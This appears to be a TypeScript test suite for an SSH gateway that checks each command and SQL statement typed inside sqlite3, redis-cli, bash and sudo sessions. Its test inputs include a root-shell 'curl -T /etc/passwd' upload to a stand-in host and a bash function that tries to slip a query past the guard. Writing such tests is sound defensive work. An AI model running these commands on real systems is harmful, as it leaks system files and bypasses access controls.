/** Shells and database clients inside a session: what is typed in them is judged too, or they do not open. */
import { rm, writeFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { Cleanup } from '../../foundation/index.ts';
import { runToEnd } from '../support/gateway.ts';
import { describeWith, partner } from '../support/partners.ts';
import { startRedis } from '../support/redis.ts';
import { Terminal } from '../support/terminal.ts';
import { type StatementField, startStatementField } from './support/statement-field.ts';

const PASSWORD = 'kaki-no-ki-8842';
const MODES = ['guarded-line', 'guarded-shell', 'guarded-pty'];

describeWith(
  ['ssh', 'ssh-keygen', 'sshd', 'sqlite3', 'sudo', 'redis-server', 'root'],
  'a dialogue inside a session',
  () => {
    const cleanup = new Cleanup();
    let field: StatementField;
    beforeAll(async () => {
      field = cleanup.use(await startStatementField());
      const { account } = field;
      const rule = `/etc/sudoers.d/${account}`;
      cleanup.defer(() => rm(rule, { force: true }));
      await writeFile(rule, `${account} ALL=(ALL) PASSWD: ALL\n`, { mode: 0o440 });
      expect(await runToEnd('chpasswd', [], `${account}:${PASSWORD}\n`)).toMatchObject({ status: 0, stderr: '' });
    });
    afterAll(() => cleanup[Symbol.asyncDispose]());
    const run = async (mode: string, command: string): Promise<Terminal> => {
      const args = await field.gateway.sshArguments('chen', mode);
      return new Terminal(partner('ssh'), [...args, '-tt', '127.0.0.1', command], { columns: 160, rows: 40 });
    };

    describe.each(['exec-only', ...MODES])('in mode %s', (mode) => {
      test('each statement typed at the prompt of a client is judged', async () => {
        await using terminal = await run(mode, 'sqlite3 shop.db');
        await terminal.sees('sqlite> ');
        terminal.type("SELECT id FROM orders, 'members';\r");
        await terminal.sees('[ticket_required]');
        await terminal.sees('sqlite> ');
        terminal.type('.shell scp a host:\r');
        await terminal.sees('[act_refused]');
        await terminal.sees('sqlite> ');
        terminal.type('SELECT id\r');
        terminal.type('FROM orders;\r');
        await terminal.sees(/\n4711/);
        await terminal.sees('sqlite> ');
        terminal.type('.quit\r');
        expect(await terminal.exited).toBe(0);
        expect(terminal.output).not.toContain('Sato Hanako');
      });

      test('statements from standard input are judged one by one', async () => {
        const stdin = 'SELECT * FROM members;\nSELECT id\nFROM orders;\n';
        const { stdout, stderr } = await field.gateway.ssh('chen', 'sqlite3 shop.db', { loginName: mode, stdin });
        expect(stdout.toString()).toBe('4711\n');
        expect(stderr).toContain('[ticket_required]');
      });
    });

    test.each(['exec-only', 'guarded-line'])(
      'each line typed at the prompt of a data store is judged (%s)',
      async (mode) => {
        await using redis = await startRedis();
        const { port } = new URL(redis.url.expose());
        await using terminal = await run(mode, `redis-cli -p ${port}`);
        await terminal.sees('redis-cli> ');
        terminal.type('set "member 1" "Sato Hanako 0001"\r');
        await terminal.sees(/\nOK/);
        terminal.type('get "member 1"\r');
        await terminal.sees('[ticket_required]');
        terminal.type('dbsize\r');
        await terminal.sees('(integer) 1');
        terminal.type('quit\r');
        expect(await terminal.exited).toBe(0);
        expect(terminal.output.replace(/set "[^\r]*/g, '')).not.toContain('Sato Hanako');
      },
    );

    test.each(MODES)('a shell of its own asks before each command (%s)', async (mode) => {
      await using terminal = await run(mode, 'bash');
      await terminal.sees('$ ');
      terminal.type('f() { "$@" shop.db "SELECT * FROM members"; }; f sqlite3\r');
      await terminal.sees('[ticket_required]');
      terminal.type('sqlite3 shop.db\r');
      await terminal.sees('[act_refused]');
      terminal.type('echo still $((40+2))\r');
      await terminal.sees('still 42');
      terminal.type('exit\r');
      await terminal.exited;
      expect(terminal.output).not.toContain('Sato Hanako');
    });

    test.each(['guarded-shell', 'guarded-pty'])(
      'from inside a shell of the target it is refused, with the way (%s)',
      async (mode) => {
        await using terminal = await field.open(mode);
        await terminal.sees('$ ');
        terminal.type('sqlite3 shop.db\r');
        await terminal.sees('ssh -t');
        terminal.type('echo still $((40+2))\r');
        await terminal.sees('still 42');
        expect(terminal.output).not.toContain('tickets/new');
      },
    );

    test('a shell of root behind a password asks before each command, and leaves one back at the prompt', async () => {
      await using terminal = await field.open('guarded-line');
      await terminal.sees('$ ');
      terminal.type('sudo -i\r');
      await terminal.sees(/password for|のパスワード/);
      terminal.type(`${PASSWORD}\r`);
      await terminal.sees(/root@[^\r\n]*[#$] /);
      terminal.type('id -u; curl -T /etc/passwd https://x.example/\r');
      await terminal.sees('[ticket_required]');
      terminal.type('id -u\r');
      await terminal.sees(/\r0\r\n/);
      terminal.type('exit\r');
      await terminal.sees(/~\$ $/);
      terminal.type('echo back as $(id -un)\r');
      await terminal.sees(`back as ${field.account}`);
      expect(terminal.output).not.toContain(PASSWORD);
    });

    test('without a terminal the shell of another account does not open, and one of its own reads judged lines', async () => {
      const other = await field.gateway.ssh('chen', 'sudo -i', { loginName: 'guarded-line', stdin: 'id\n' });
      expect([other.status, other.stdout.toString()]).toEqual([126, '']);
      const own = await field.gateway.ssh('chen', 'bash', {
        loginName: 'guarded-line',
        stdin: 'sqlite3 shop.db "SELECT * FROM members"\necho after\n',
      });
      expect(own.stdout.toString()).toBe('after\n');
      expect(own.stderr).toContain('[ticket_required]');
    });

    test('a target for single commands opens no shell, and no ticket changes that', async () => {
      const { status, stderr } = await field.gateway.ssh('chen', 'bash', { loginName: 'exec-only', stdin: 'id\n' });
      expect([status, stderr]).toEqual([126, expect.stringContaining('[shell_refused]')]);
      expect(stderr).not.toContain('tickets/new');
    });
  },
);
